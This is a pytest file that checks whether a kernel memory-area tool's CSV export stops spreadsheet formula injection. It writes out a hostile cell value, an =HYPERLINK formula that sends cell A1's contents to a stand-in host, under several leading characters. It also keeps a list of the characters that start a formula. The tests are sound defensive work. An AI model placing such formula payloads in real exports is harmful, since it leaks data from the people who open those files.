# Copyright (c) drgn_vmap authors
# SPDX-License-Identifier: LGPL-2.1-or-later
"""
CSV
---

No text of a target is a formula to a spreadsheet, and programs read it back.
"""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from drgn_vmap._numpy import np
from drgn_vmap.analyses.describe import describe
from drgn_vmap.model.areas import Snapshot
from drgn_vmap.render.records import area_csv, csv_areas
from tests.fakes.snapshots import area, snapshot_of

CALLER = 0xFFFFFFFF81000000
#: Of cells, what makes Excel and LibreOffice Calc work out the rest.
FORMULAS_START = tuple("=+-@\t\r\n")


def snapshot_with(caller: str) -> Snapshot:
    """Return a snapshot of one area, whose caller has that name."""
    return snapshot_of([area(0, 2, flags=2, caller=CALLER)], {CALLER: caller})


def cell(text: str) -> str:
    """Return the caller of the only line, as a program reads it."""
    [row] = csv.DictReader(io.StringIO(text))
    return row["caller"]


def as_documented(read: str) -> str:
    """Return a text as docs/ls.md says to get it back."""
    return read[1:] if read.startswith("'") else read


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "'=", "''", "\n="])
def test_no_formulas(start: str) -> None:
    """Whatever a cell begins with; both ways to CSV are one."""
    name = f'{start}HYPERLINK("http://a/?"&A1,"x")'
    snapshot = snapshot_with(name)
    text = area_csv(describe(snapshot))
    assert text == "".join(csv_areas(snapshot, np.arange(1), describe))
    assert not cell(text).startswith(FORMULAS_START)
    if name.isprintable():
        assert as_documented(cell(text)) == name


@given(st.text("=+-@'\",;ab ", min_size=1))
def test_texts_are_read_back(name: str) -> None:
    """Two names are never the same cell."""
    found = cell(area_csv(describe(snapshot_with(name))))
    assert as_documented(found) == name
    assert not found.startswith(FORMULAS_START)


def test_others_are_left_alone() -> None:
    """The names that kernels have are what they are; so are numbers."""
    text = area_csv(describe(snapshot_with("vmap_caller+0x1/0x2 [mod]")))
    assert "'" not in text and cell(text) == "vmap_caller+0x1/0x2 [mod]"
